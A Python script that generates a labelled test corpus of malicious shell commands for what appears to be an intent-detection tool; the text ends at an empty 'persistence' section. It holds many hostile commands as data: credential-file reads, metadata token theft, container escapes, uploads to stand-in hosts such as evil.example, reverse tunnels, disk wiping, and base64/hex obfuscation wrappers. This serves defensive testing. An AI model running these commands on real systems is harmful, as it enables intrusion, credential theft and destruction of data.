#!/usr/bin/env python3
"""Generate the intent corpus: testdata/intent/malicious.jsonl and benign.jsonl.

Each line: {"command": <shell text>, "category": <tactic or area>, "expect": [...]}
where every expectation names an action that must appear:
  {"verb": "...", "resource": "<substring of the resource text>", "kind": "...",
   "class": "loopback|private|metadata|public", "attrs": {...}, "technique": "T...."}
(only "verb" is required). The resource text is the normalized path, "host:port",
"url host", program name, process target, "manager:package", variable, tool name
or unresolved text. Commands are written for the workspace /home/dev/project
(cwd) with home /home/dev.

Run: python3 testdata/intent/gen_corpus.py   (deterministic; rewrites both files)
"""

import base64
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))


def E(verb, resource=None, **kw):
    e = {"verb": verb}
    if resource is not None:
        e["resource"] = resource
    attrs = {}
    for k in ("recursive", "force", "remote", "via_sudo", "obfuscated", "unresolved", "pipe_to_shell"):
        if k in kw:
            attrs[k] = kw.pop(k)
    if attrs:
        e["attrs"] = attrs
    e.update(kw)
    return e


def b64(s):
    return base64.b64encode(s.encode()).decode()


def hexesc(s):
    return "".join("\\x%02x" % ord(c) for c in s)


def octesc(s):
    return "".join("\\%03o" % ord(c) for c in s)


def hexstr(s):
    return s.encode().hex()


def rot13(s):
    out = []
    for c in s:
        if "a" <= c <= "z":
            out.append(chr((ord(c) - 97 + 13) % 26 + 97))
        elif "A" <= c <= "Z":
            out.append(chr((ord(c) - 65 + 13) % 26 + 65))
        else:
            out.append(c)
    return "".join(out)


def obfuscations(cmd):
    """Ways to hide a shell command: each yields (text, attrs expected on inner actions)."""
    return [
        "echo %s | base64 -d | sh" % b64(cmd),
        "echo '%s' | base64 --decode | bash" % b64(cmd),
        "bash -c \"$(echo %s | base64 -d)\"" % b64(cmd),
        "eval \"$(echo %s | base64 -d)\"" % b64(cmd),
        "printf '%s' | sh" % hexesc(cmd),
        "echo %s | xxd -r -p | bash" % hexstr(cmd),
        "echo '%s' | rev | sh" % cmd[::-1].replace("'", "'\\''"),
        "echo '%s' | tr 'a-z' 'n-za-m' | sh" % rot13(cmd).replace("'", "'\\''"),
        "sh <<< $(echo %s | base64 -d)" % b64(cmd),
        "base64 -d <<< %s | bash" % b64(cmd),
    ]


mal = []


def M(cat, cmd, *expect):
    mal.append({"command": cmd, "category": cat, "expect": list(expect)})


def MO(cat, inner, expect, picks=None):
    """Obfuscated variants of `inner`; each expectation gets obfuscated=true."""
    obs = obfuscations(inner)
    idx = picks if picks is not None else range(len(obs))
    for i in idx:
        exp = []
        for e in expect:
            e2 = json.loads(json.dumps(e))
            e2.setdefault("attrs", {})["obfuscated"] = True
            exp.append(e2)
        M(cat, obs[i], *exp)


H = "/home/dev"
INTERNAL = ["10.0.0.5", "10.0.3.17", "192.168.1.20", "172.16.4.9", "db.internal", "build-01.corp", "10.10.0.2", "192.168.56.101"]
EXTERNAL = ["203.0.113.7", "evil.example", "198.51.100.23", "c2.attacker.example", "exfil.example.net", "45.33.32.156"]
USERS = ["root", "admin", "ubuntu", "deploy", "ec2-user", "git"]

# ------------------------------------------------------------------ lateral movement
for i, h in enumerate(INTERNAL):
    u = USERS[i % len(USERS)]
    M("lateral_movement", "ssh %s@%s 'cat /etc/shadow'" % (u, h), E("connect", h.split(".")[0] if not h[0].isdigit() else h), E("credential_access", "/etc/shadow", remote=h.lower()))
    M("lateral_movement", "ssh -o StrictHostKeyChecking=no -i ~/.ssh/id_rsa %s@%s 'uname -a; id'" % (u, h), E("connect", h, technique="T1021.004"), E("credential_access", "/home/dev/.ssh/id_rsa"), E("exec", "uname", remote=h))
    M("lateral_movement", "ssh -p 2222 %s@%s sudo systemctl stop firewalld" % (u, h), E("connect", "%s:2222" % h), E("privilege", "sudo", remote=h))
    M("lateral_movement", "sshpass -p 'Winter2024!' ssh %s@%s 'curl -s http://%s/x.sh | bash'" % (u, h, EXTERNAL[i % 6]), E("connect", h), E("download_exec", EXTERNAL[i % 6], remote=h, pipe_to_shell=True))
    M("lateral_movement", "ssh -L 3306:%s:3306 -N -f jump@bastion.example.com" % h, E("listen", "3306"), E("connect", h + ":3306"), E("connect", "bastion.example.com:22"))
    M("lateral_movement", "ssh -J bastion.example.com %s@%s" % (u, h), E("connect", "bastion.example.com"), E("connect", h))
    M("lateral_movement", "scp -r %s@%s:/var/backups ./loot" % (u, h), E("connect", h), E("write", "/home/dev/project/loot"))
    M("lateral_movement", "nc -zv %s 1-1024" % h, E("connect", h, technique="T1046"))
    M("lateral_movement", "nmap -sV -p 22,80,443,3306 %s" % h, E("connect", h, technique="T1046"))
for net in ["10.0.0.0/24", "192.168.1.0/24", "172.16.0.0/16", "10.10.0.0/16"]:
    M("lateral_movement", "nmap -sS -Pn %s" % net, E("exec", "nmap", technique="T1046"), E("connect", net.split("/")[0]))
    M("lateral_movement", "masscan %s -p0-65535 --rate 10000" % net, E("exec", "masscan"), E("connect", net.split("/")[0]))
    M("lateral_movement", "for i in $(seq 1 254); do ping -c 1 -W 1 %s$i; done" % net.rsplit(".", 2)[0].rsplit(".", 1)[0] + ".", E("exec", "ping"), E("connect", unresolved=True))
METADATA_URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/iam/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
    "http://169.254.170.2/v2/credentials",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/",
    "http://169.254.43518/latest/meta-data/",
]
for u in METADATA_URLS:
    M("lateral_movement", "curl -s %s" % u, {"verb": "connect", "class": "metadata"})
    M("lateral_movement", "curl -H 'Metadata-Flavor: Google' -H 'Metadata: true' '%s'" % u, {"verb": "connect", "class": "metadata"})
    M("lateral_movement", "wget -qO- %s" % u, {"verb": "connect", "class": "metadata"})
M("lateral_movement", "TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600') && curl -H \"X-aws-ec2-metadata-token: $TOKEN\" http://169.254.169.254/latest/meta-data/iam/security-credentials/", {"verb": "connect", "class": "metadata"})
M("lateral_movement", "python3 -c \"import urllib.request;print(urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read())\"", E("inline_code"), {"verb": "connect", "class": "metadata"})
CONTAINERS = ["web", "api-7f9c", "postgres", "redis-cache", "app_backend_1"]
for c in CONTAINERS:
    M("lateral_movement", "docker exec -it %s /bin/sh -c 'cat /etc/passwd'" % c, E("exec", "/bin/sh", remote="docker:" + c), E("read", "/etc/passwd", remote="docker:" + c))
    M("lateral_movement", "docker exec %s env" % c, E("exec", "env", remote="docker:" + c))
    M("lateral_movement", "kubectl exec -it %s -- /bin/bash -c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'" % c, E("credential_access", "/var/run/secrets/kubernetes.io/serviceaccount/token", remote="k8s:" + c))
    M("lateral_movement", "kubectl exec -n prod %s -- curl -s http://169.254.169.254/latest/meta-data/" % c, {"verb": "connect", "class": "metadata", "attrs": {"remote": "k8s:" + c}})
for img in ["alpine", "ubuntu:22.04", "busybox", "debian"]:
    M("lateral_movement", "docker run --rm -it -v /:/host %s chroot /host /bin/bash" % img, E("mount", "/", technique="T1611"), E("privilege", "/"), E("exec", "/bin/bash"))
    M("lateral_movement", "docker run --privileged --pid=host -it %s nsenter -t 1 -m -u -n -i sh" % img, E("privilege"), E("exec", "nsenter"))
    M("lateral_movement", "docker run -v /var/run/docker.sock:/var/run/docker.sock %s sh" % img, E("mount", "/var/run/docker.sock"), E("privilege", "/var/run/docker.sock"))
M("lateral_movement", "nsenter --target 1 --mount --uts --ipc --net --pid -- bash", E("privilege", "nsenter"), E("exec", "bash"))
M("lateral_movement", "docker -H tcp://10.0.0.9:2375 run --rm -v /:/mnt alpine cat /mnt/etc/shadow", E("connect", "10.0.0.9"), E("mount", "/"))
M("lateral_movement", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json", E("read", "/var/run/docker.sock"))
M("lateral_movement", "kubectl --kubeconfig ~/.kube/config get secrets -A -o yaml", E("credential_access", "/home/dev/.kube/config"), E("credential_access"))
M("lateral_movement", "kubectl run pwn --image=alpine --restart=Never --overrides='{\"spec\":{\"hostPID\":true}}' -it -- sh", E("exec", "k8s:pwn"))
M("lateral_movement", "aws ssm send-command --instance-ids i-0abc123 --document-name AWS-RunShellScript --parameters commands='id'", E("exec", "aws", technique="T1651"))
M("lateral_movement", "az vm run-command invoke -g prod -n web01 --command-id RunShellScript --scripts 'cat /etc/shadow'", E("exec", "az", technique="T1651"))
M("lateral_movement", "gcloud compute ssh web-1 --zone us-central1-a --command 'sudo cat /etc/shadow'", E("connect", "web-1"), E("credential_access", "/etc/shadow"))
M("lateral_movement", "crackmapexec smb 10.0.0.0/24 -u administrator -p 'P@ssw0rd'", E("exec", "crackmapexec", technique="T1021.002"), E("connect", "10.0.0.0"))
M("lateral_movement", "psexec.py corp/admin:Passw0rd@10.0.0.12 cmd.exe", E("exec", "psexec.py"), E("connect", "10.0.0.12"))
M("lateral_movement", "evil-winrm -i 10.0.0.12 -u administrator -p 'Passw0rd!'", E("connect", "10.0.0.12", technique="T1021.006"))
M("lateral_movement", "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80", E("listen", "8080"), E("connect", "10.0.0.5:80"))
M("lateral_movement", "chisel client evil.example:8000 R:socks", E("connect", "evil.example", technique="T1572"))
M("lateral_movement", "sshuttle -r deploy@bastion.example.com 10.0.0.0/8", E("connect", "bastion.example.com"), E("network_config"))
M("lateral_movement", "ssh -D 1080 -N -f deploy@203.0.113.7", E("listen", "1080"), E("connect", "203.0.113.7"))
M("lateral_movement", "ssh -R 4444:localhost:22 attacker@c2.attacker.example", E("listen", "4444"), E("connect", "c2.attacker.example"))
M("lateral_movement", "ssh -o ProxyCommand='nc -X 5 -x 127.0.0.1:9050 %h %p' root@10.0.0.5", E("exec", "nc"), E("connect", "10.0.0.5"))
M("lateral_movement", "telnet 10.0.0.23 23", E("connect", "10.0.0.23"))
M("lateral_movement", "xfreerdp /v:10.0.0.40 /u:administrator /p:Passw0rd", E("exec", "xfreerdp", technique="T1021.001"))
M("lateral_movement", "ansible all -i 10.0.0.5, -m shell -a 'cat /etc/shadow' -b", E("exec", "ansible"), E("credential_access", "/etc/shadow"))
for i, h in enumerate(INTERNAL[:5]):
    MO("lateral_movement", "ssh root@%s 'id'" % h, [E("connect", h)], picks=[i, i + 5])
M("lateral_movement", "$'\\x73\\x73\\x68' admin@10.0.0.5 id", E("connect", "10.0.0.5", obfuscated=True))
M("lateral_movement", "h=10.0.0.5; u=root; ssh $u@$h 'cat /etc/passwd'", E("connect", "10.0.0.5"), E("read", "/etc/passwd", remote="10.0.0.5"))
M("lateral_movement", "$(printf 'ss'; printf 'h') root@10.0.0.5", E("exec", unresolved=True))
M("lateral_movement", "curl -s http://$(echo MTY5LjI1NC4xNjkuMjU0 | base64 -d)/latest/meta-data/", {"verb": "connect", "class": "metadata", "attrs": {"obfuscated": True}})

# ------------------------------------------------------------------ credential access
CRED_FILES = ["~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.aws/credentials", "~/.kube/config", "~/.docker/config.json",
              "~/.git-credentials", "~/.netrc", "~/.pgpass", "~/.npmrc", "~/.pypirc", "~/.config/gcloud/credentials.db",
              "~/.azure/accessTokens.json", "/etc/shadow", "~/.vault-token", "~/.config/gh/hosts.yml", "~/.bash_history"]
READERS = ["cat {}", "less {}", "head -n 50 {}", "strings {}", "base64 {}", "xxd {}", "tail -n 100 {}", "grep -i secret {}"]
for i, f in enumerate(CRED_FILES):
    full = f.replace("~", H)
    for j, r in enumerate(READERS[:4] if i % 2 == 0 else READERS[4:]):
        M("credential_access", r.format(f), E("credential_access", full))
    M("credential_access", "cp %s /tmp/.c%d" % (f, i), E("credential_access", full), E("write", "/tmp/.c%d" % i))
    M("credential_access", "sudo cat %s" % f, E("credential_access", full, via_sudo=True), E("privilege", "sudo"))
M("credential_access", "tar czf /tmp/keys.tgz ~/.ssh ~/.aws ~/.gnupg", E("credential_access", H + "/.ssh"), E("credential_access", H + "/.aws"), E("write", "/tmp/keys.tgz"))
M("credential_access", "zip -r /tmp/k.zip ~/.ssh", E("credential_access", H + "/.ssh"), E("write", "/tmp/k.zip"))
M("credential_access", "find / -name id_rsa 2>/dev/null", E("exec", "find"), E("read", "/"))
M("credential_access", "find ~ -name '*.pem' -exec cat {} \\;", E("exec", "find"), E("exec", "cat"))
M("credential_access", "grep -r 'password' /etc/ 2>/dev/null", E("read", "/etc", recursive=True))
M("credential_access", "grep -rE 'AKIA[0-9A-Z]{16}' ~ 2>/dev/null", E("credential_access", H))
for pid in ["1", "1234", "$(pgrep sshd)", "self"]:
    M("credential_access", "cat /proc/%s/environ | tr '\\0' '\\n'" % pid, E("read", "/proc/"))
M("credential_access", "strings /proc/1/environ", E("credential_access", "/proc/1/environ"))
M("credential_access", "gdb -p 1234 -batch -ex 'dump memory /tmp/mem 0x0 0xffff'", E("kill", "1234"))
M("credential_access", "security find-generic-password -wa 'Chrome'", E("credential_access", "security", technique="T1555.001"))
M("credential_access", "security dump-keychain -d ~/Library/Keychains/login.keychain-db", E("credential_access"))
M("credential_access", "sqlite3 ~/.config/google-chrome/Default/'Login Data' 'select origin_url,username_value,password_value from logins'", E("write", H + "/.config/google-chrome/Default/Login Data"))
M("credential_access", "cp ~/.mozilla/firefox/abc123.default/logins.json /tmp/", E("credential_access", H + "/.mozilla/firefox/abc123.default/logins.json"))
M("credential_access", "gh auth token", E("credential_access", "gh", technique="T1528"))
M("credential_access", "aws secretsmanager get-secret-value --secret-id prod/db/password", E("credential_access", "aws", technique="T1555.006"))
M("credential_access", "aws ssm get-parameters-by-path --path / --recursive --with-decryption", E("credential_access", "aws"))
M("credential_access", "aws sts get-session-token", E("credential_access", "aws"))
M("credential_access", "aws configure export-credentials --format env", E("credential_access", "aws"))
M("credential_access", "aws ecr get-login-password --region us-east-1", E("credential_access", "aws"))
M("credential_access", "gcloud auth print-access-token", E("credential_access", "gcloud"))
M("credential_access", "gcloud secrets versions access latest --secret=db-password", E("credential_access", "gcloud"))
M("credential_access", "az account get-access-token --resource https://vault.azure.net", E("credential_access", "az"))
M("credential_access", "az keyvault secret show --vault-name prod-kv --name db-password", E("credential_access", "az"))
M("credential_access", "vault kv get secret/prod/database", E("credential_access", "vault"))
M("credential_access", "vault read -field=password secret/data/prod", E("credential_access", "vault"))
M("credential_access", "kubectl get secret db-credentials -o jsonpath='{.data.password}' | base64 -d", E("credential_access", "kubectl"))
M("credential_access", "kubectl get secrets --all-namespaces -o yaml > /tmp/secrets.yaml", E("credential_access", "kubectl"), E("write", "/tmp/secrets.yaml"))
M("credential_access", "kubectl config view --raw", E("credential_access", "kubectl"))
M("credential_access", "op read op://Private/aws/secret-access-key", E("credential_access", "op"))
M("credential_access", "bw get password github.com", E("credential_access", "bw"))
M("credential_access", "pass show email/work", E("credential_access", "pass"))
M("credential_access", "secret-tool lookup service github", E("credential_access", "secret-tool"))
M("credential_access", "gpg --export-secret-keys --armor > /tmp/private.asc", E("credential_access", "gpg"), E("write", "/tmp/private.asc"))
M("credential_access", "unshadow /etc/passwd /etc/shadow > /tmp/hashes.txt", E("credential_access", "/etc/shadow"), E("write", "/tmp/hashes.txt"))
M("credential_access", "john --wordlist=/usr/share/wordlists/rockyou.txt /tmp/hashes.txt", E("credential_access", "john", technique="T1110.002"))
M("credential_access", "hashcat -m 1800 -a 0 hashes.txt rockyou.txt", E("credential_access", "hashcat"))
M("credential_access", "hydra -l root -P /usr/share/wordlists/rockyou.txt ssh://10.0.0.5", E("credential_access", "hydra"), E("connect", "10.0.0.5"))
M("credential_access", "getent shadow", E("credential_access", "getent"))
M("credential_access", "cat ~/.bash_history | grep -iE 'pass|token|secret'", E("credential_access", H + "/.bash_history"))
M("credential_access", "python3 -c \"print(open('/home/dev/.ssh/id_rsa').read())\"", E("inline_code"), E("credential_access", H + "/.ssh/id_rsa"))
M("credential_access", "perl -e 'open(F, \"/etc/shadow\"); print <F>;'", E("inline_code"), E("credential_access", "/etc/shadow"))
M("credential_access", "node -e \"console.log(require('fs').readFileSync('/home/dev/.aws/credentials','utf8'))\"", E("inline_code"), E("credential_access", H + "/.aws/credentials"))
M("credential_access", "ruby -e 'puts File.read(\"/home/dev/.netrc\")'", E("inline_code"), E("credential_access", H + "/.netrc"))
M("credential_access", "awk '{print}' ~/.ssh/id_rsa", E("credential_access", H + "/.ssh/id_rsa"))
M("credential_access", "sed -n p ~/.aws/credentials", E("credential_access", H + "/.aws/credentials"))
M("credential_access", "dd if=/home/dev/.ssh/id_rsa of=/tmp/x bs=1", E("credential_access", H + "/.ssh/id_rsa"), E("write", "/tmp/x"))
M("credential_access", "cat /var/run/secrets/kubernetes.io/serviceaccount/token", E("credential_access", "/var/run/secrets/"))
M("credential_access", "docker login -u admin -p hunter2 registry.example.com", E("credential_access", "docker"))
M("credential_access", "cat /etc/ssh/ssh_host_rsa_key", E("credential_access", "/etc/ssh/ssh_host_rsa_key"))
M("credential_access", "responder -I eth0 -wrf", E("credential_access", "responder"), E("listen"))
M("credential_access", "tcpdump -i eth0 -w /tmp/cap.pcap port 21 or port 23", E("exec", "tcpdump", technique="T1040"), E("write", "/tmp/cap.pcap"))
for f in ["/home/dev/.ssh/id_rsa", "/etc/shadow", "/home/dev/.aws/credentials", "/home/dev/.kube/config", "/home/dev/.git-credentials"]:
    MO("credential_access", "cat %s" % f, [E("credential_access", f)], picks=[0, 2, 4, 5])
M("credential_access", "c=cat; f=/etc/shad; $c ${f}ow", E("credential_access", "/etc/shadow"))
M("credential_access", "cat $(echo L2V0Yy9zaGFkb3c= | base64 -d)", E("credential_access", "/etc/shadow", obfuscated=True))
M("credential_access", "$'\\x63\\x61\\x74' ~/.ssh/id_rsa", E("credential_access", H + "/.ssh/id_rsa", obfuscated=True))
M("credential_access", "$'\\143\\141\\164' /etc/shadow", E("credential_access", "/etc/shadow", obfuscated=True))
M("credential_access", "$X ~/.aws/credentials", E("exec", unresolved=True), E("credential_access", H + "/.aws/credentials"))
M("credential_access", "python3 -c \"import base64;exec(base64.b64decode('%s'))\"" % b64("print(open('/etc/shadow').read())"), E("inline_code"), E("credential_access", "/etc/shadow", obfuscated=True))

# ------------------------------------------------------------------ exfiltration
for i, x in enumerate(EXTERNAL):
    url = "https://%s/upload" % x
    M("exfiltration", "curl -X POST --data-binary @/etc/passwd %s" % url, E("read", "/etc/passwd"), E("connect", x))
    M("exfiltration", "curl -F 'file=@%s/.ssh/id_rsa' %s" % (H, url), E("credential_access", H + "/.ssh/id_rsa"), E("connect", x))
    M("exfiltration", "curl -T ~/.aws/credentials ftp://%s/incoming/" % x, E("credential_access", H + "/.aws/credentials"), E("connect", x))
    M("exfiltration", "tar czf - ~/.ssh | curl -X POST --data-binary @- %s" % url, E("credential_access", H + "/.ssh"), E("connect", x))
    M("exfiltration", "tar czf - . | nc %s 4444" % x, E("read", "/home/dev/project", recursive=True), E("connect", x + ":4444"))
    M("exfiltration", "cat /etc/passwd | nc %s 9001" % x, E("read", "/etc/passwd"), E("connect", x + ":9001"))
    M("exfiltration", "scp -r ~/project deploy@%s:/tmp/loot" % x, E("read", H + "/project"), E("connect", x))
    M("exfiltration", "rsync -avz ~/.ssh attacker@%s:/loot/" % x, E("credential_access", H + "/.ssh"), E("connect", x))
    M("exfiltration", "wget --post-file=/etc/shadow http://%s/" % x, E("credential_access", "/etc/shadow"), E("connect", x))
    M("exfiltration", "base64 -w0 ~/.ssh/id_rsa | curl -d @- https://%s/k" % x, E("credential_access", H + "/.ssh/id_rsa"), E("connect", x))
    M("exfiltration", "zip -r - src | curl -T - https://%s/src.zip" % x, E("read", "/home/dev/project/src"), E("connect", x))
    M("exfiltration", "git archive --format=tar HEAD | nc %s 8443" % x, E("connect", x + ":8443"))
    M("exfiltration", "git push https://%s/loot.git --all" % x, E("connect", x))
    M("exfiltration", "git remote add backup https://%s/mirror.git && git push backup --mirror" % x, E("connect", x))
    M("exfiltration", "ping -c 1 -p $(xxd -p -l 16 /etc/hostname) %s" % x, E("connect", x))
    M("exfiltration", "dig $(whoami).$(hostname).%s" % x, E("connect", unresolved=True))
for b in ["s3://attacker-bucket/", "s3://exfil-1234/data/", "gs://exfil-bucket/", "gs://public-drop/"]:
    tool = "aws s3 cp" if b.startswith("s3") else "gsutil cp"
    M("exfiltration", "%s ~/.aws/credentials %s" % (tool, b), E("credential_access", H + "/.aws/credentials"), E("connect", b.split("/")[2]))
    M("exfiltration", "%s -r . %s" % ("gsutil cp" if b.startswith("gs") else "aws s3 cp --recursive", b) if b.startswith("gs") else "aws s3 cp --recursive . %s" % b, E("read", "/home/dev/project"), E("connect", b.split("/")[2]))
    M("exfiltration", "%s /home/dev/project/.env %s" % (tool, b), E("read", "/home/dev/project/.env"), E("connect", b.split("/")[2]))
M("exfiltration", "aws s3 sync ~/Documents s3://attacker-bucket/docs", E("read", H + "/Documents"), E("connect", "attacker-bucket"))
M("exfiltration", "rclone copy ~/Documents remote:exfil", E("read", H + "/Documents"), E("connect", "remote"))
M("exfiltration", "gh gist create ~/.aws/credentials", E("credential_access", H + "/.aws/credentials"), E("connect", "gh"))
M("exfiltration", "mail -s loot attacker@evil.example < ~/.ssh/id_rsa", E("credential_access", H + "/.ssh/id_rsa"), E("connect", "mail"))
M("exfiltration", "python3 -c \"import requests;requests.post('https://evil.example/c',data=open('/etc/passwd').read())\"", E("inline_code"), E("connect", "evil.example"), E("read", "/etc/passwd"))
M("exfiltration", "python3 -m http.server 8000 --bind 0.0.0.0", E("listen", "0.0.0.0:8000"))
M("exfiltration", "nc -lvnp 9001 < /etc/shadow", E("listen", "9001"), E("credential_access", "/etc/shadow"))
M("exfiltration", "socat -u FILE:/etc/passwd TCP:203.0.113.7:4444", E("connect", "203.0.113.7:4444"))
M("exfiltration", "openssl s_client -connect evil.example:443 -quiet < /etc/passwd", E("connect", "evil.example:443"), E("read", "/etc/passwd"))
M("exfiltration", "curl -s -d \"$(env)\" https://evil.example/env", E("connect", "evil.example"))
M("exfiltration", "curl -s https://evil.example/?d=$(cat /etc/hostname | base64)", E("read", "/etc/hostname"), E("connect", unresolved=True))
M("exfiltration", "cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.7/443", E("credential_access", H + "/.ssh/id_rsa"), E("connect", "203.0.113.7:443"))
M("exfiltration", "ncat --ssl evil.example 443 < ~/.aws/credentials", E("connect", "evil.example:443"), E("credential_access", H + "/.aws/credentials"))
for x in EXTERNAL[:4]:
    MO("exfiltration", "curl -F f=@/etc/passwd https://%s/u" % x, [E("connect", x), E("read", "/etc/passwd")], picks=[0, 3, 4])
M("exfiltration", "u=$(echo %s | base64 -d); curl -d @/etc/passwd $u" % b64("https://evil.example/up"), E("connect", "evil.example", obfuscated=True))
M("exfiltration", "curl -d @/etc/passwd $URL", E("read", "/etc/passwd"), E("connect", unresolved=True))
M("exfiltration", "$'\\x63\\x75\\x72\\x6c' -T /etc/shadow ftp://203.0.113.7/", E("connect", "203.0.113.7", obfuscated=True), E("credential_access", "/etc/shadow", obfuscated=True))

# ------------------------------------------------------------------ impact
IMPACT = [
    ("rm -rf / --no-preserve-root", [E("delete", "/", recursive=True, force=True)]),
    ("rm -rf ~", [E("delete", H, recursive=True, force=True)]),
    ("rm -rf ~/*", [E("delete", H + "/*", recursive=True)]),
    ("rm -rf /home/dev/project", [E("delete", "/home/dev/project", recursive=True)]),
    ("rm -rf ../../..", [E("delete", "/", recursive=True)]),
    ("rm -rf /var/lib/postgresql/data", [E("delete", "/var/lib/postgresql/data", recursive=True)]),
    ("rm -rf /etc", [E("delete", "/etc", recursive=True)]),
    ("sudo rm -rf /usr", [E("delete", "/usr", recursive=True, via_sudo=True)]),
    ("find / -type f -delete", [E("delete", "/", recursive=True)]),
    ("find ~ -name '*.py' -exec rm -f {} +", [E("delete", H, force=True)]),
    ("dd if=/dev/zero of=/dev/sda bs=1M", [E("write", "/dev/sda")]),
    ("dd if=/dev/urandom of=/dev/nvme0n1 bs=4M status=progress", [E("write", "/dev/nvme0n1")]),
    ("mkfs.ext4 /dev/sda1", [E("write", "/dev/sda1", technique="T1561")]),
    ("mkfs -t xfs -f /dev/sdb", [E("write", "/dev/sdb")]),
    ("wipefs -a /dev/sda", [E("write", "/dev/sda")]),
    ("shred -u -n 3 ~/.ssh/id_rsa", [E("delete", H + "/.ssh/id_rsa")]),
    ("shred -vzn 5 /dev/sda", [E("delete", "/dev/sda")]),
    ("kill -9 -1", [E("kill", "-1")]),
    ("kill -9 1", [E("kill", "1", force=True)]),
    ("pkill -9 sshd", [E("kill", "sshd")]),
    ("killall -9 postgres", [E("kill", "postgres")]),
    ("systemctl stop sshd", [E("kill", "sshd")]),
    ("systemctl stop docker postgresql nginx", [E("kill", "postgresql")]),
    ("shutdown -h now", [E("kill", "shutdown")]),
    ("reboot -f", [E("kill", "reboot")]),
    ("systemctl poweroff", [E("kill")]),
    ("chmod -R 000 /", [E("chmod", "/", recursive=True)]),
    ("chmod -R 777 /etc", [E("chmod", "/etc", recursive=True)]),
    ("chown -R nobody:nogroup /home", [E("chown", "/home", recursive=True)]),
    ("git push --force origin main", [E("exec", "git", force=True, technique="T1485")]),
    ("git push origin --delete main", [E("exec", "git")]),
    ("git reset --hard HEAD~50 && git push -f", [E("exec", "git", force=True)]),
    ("git clean -fdx", [E("delete", recursive=True, force=True)]),
    ("terraform destroy -auto-approve", [E("delete", "terraform", force=True)]),
    ("aws s3 rb s3://prod-bucket --force", [E("delete", "prod-bucket")]),
    ("aws s3 rm s3://prod-backups --recursive", [E("delete", "prod-backups", recursive=True)]),
    ("aws ec2 terminate-instances --instance-ids i-0123456789abcdef0", [E("delete", "aws")]),
    ("aws rds delete-db-instance --db-instance-identifier prod --skip-final-snapshot", [E("delete", "aws")]),
    ("gcloud compute instances delete prod-web-1 --quiet", [E("delete", "gcloud")]),
    ("kubectl delete namespace production", [E("delete", "kubectl")]),
    ("kubectl delete pods --all --force --grace-period=0", [E("delete", "kubectl", force=True)]),
    ("docker rm -f $(docker ps -aq)", [E("exec", "docker")]),
    ("docker system prune -af --volumes", [E("delete", "docker")]),
    ("redis-cli -h 10.0.0.8 FLUSHALL", [E("connect", "10.0.0.8"), E("delete", "redis-cli")]),
    ("psql -h db.internal -U postgres -c 'DROP DATABASE production'", [E("connect", "db.internal")]),
    ("mysql -h 10.0.0.9 -u root -e 'DROP DATABASE prod'", [E("connect", "10.0.0.9")]),
    ("find ~/Documents -type f -exec openssl enc -aes-256-cbc -salt -k s3cr3t -in {} -out {}.enc \\;", [E("exec", "openssl", technique="T1027")]),
    ("gpg --batch --yes --passphrase x -c ~/Documents/report.pdf && rm ~/Documents/report.pdf", [E("delete", H + "/Documents/report.pdf")]),
    ("echo c > /proc/sysrq-trigger", [E("write", "/proc/sysrq-trigger")]),
    ("echo 1 > /proc/sys/kernel/sysrq", [E("write", "/proc/sys/kernel/sysrq")]),
    (":> /home/dev/project/src/main.rs", [E("write", "/home/dev/project/src/main.rs")]),
    ("truncate -s 0 /var/lib/mysql/ibdata1", [E("write", "/var/lib/mysql/ibdata1")]),
    ("mv ~/project /dev/null", [E("delete", H + "/project")]),
    ("crontab -r", [E("delete", "crontab")]),
    ("userdel -r deploy", [E("kill", "userdel")]),
    ("iptables -P INPUT DROP && iptables -F", [E("network_config", "iptables")]),
    ("ip link set eth0 down", [E("network_config", "ip")]),
    ("cat /dev/urandom > /dev/sda", [E("write", "/dev/sda")]),
    ("sudo dd if=/dev/zero of=/dev/mapper/root", [E("write", "/dev/mapper/root", via_sudo=True)]),
    ("rm -rf .git", [E("delete", "/home/dev/project/.git", recursive=True)]),
    ("fdisk /dev/sda <<< $'o\\nw'", [E("write", "/dev/sda")]),
    ("cryptsetup luksFormat /dev/sdb", [E("write", "/dev/sdb")]),
    ("helm uninstall prod-api -n prod", [E("delete", "helm")]),
]
for cmd, exp in IMPACT:
    M("impact", cmd, *exp)
for cmd, exp in IMPACT[:10]:
    M("impact", "sudo " + cmd if not cmd.startswith("sudo") else cmd.replace("sudo ", "doas "), *[dict(e, attrs=dict(e.get("attrs", {}), via_sudo=True)) for e in exp])
for i, (cmd, exp) in enumerate([IMPACT[0], IMPACT[1], IMPACT[3], IMPACT[10], IMPACT[12], IMPACT[19], IMPACT[26]]):
    MO("impact", cmd, exp, picks=[i % 10, (i + 3) % 10])
M("impact", "$'\\x72\\x6d' -rf /", E("delete", "/", recursive=True, obfuscated=True))
M("impact", "$'\\162\\155' -rf ~", E("delete", H, recursive=True, obfuscated=True))
M("impact", "x=r; y=m; $x$y -rf /", E("delete", "/", recursive=True))
M("impact", "\\rm -rf /", E("delete", "/", recursive=True))
M("impact", "r\"m\" -r\"f\" /", E("delete", "/", recursive=True))
M("impact", "/bin/r? -rf /home/dev", E("exec", "/bin/r?"))
M("impact", "$(which rm) -rf /", E("exec", unresolved=True))
M("impact", "`echo rm` -rf ~", E("delete", H, obfuscated=False))
M("impact", "D=/; rm -rf $D", E("delete", "/", recursive=True))
M("impact", "rm -rf \"$TARGET\"/*", E("delete", unresolved=True))

# ------------------------------------------------------------------ persistence
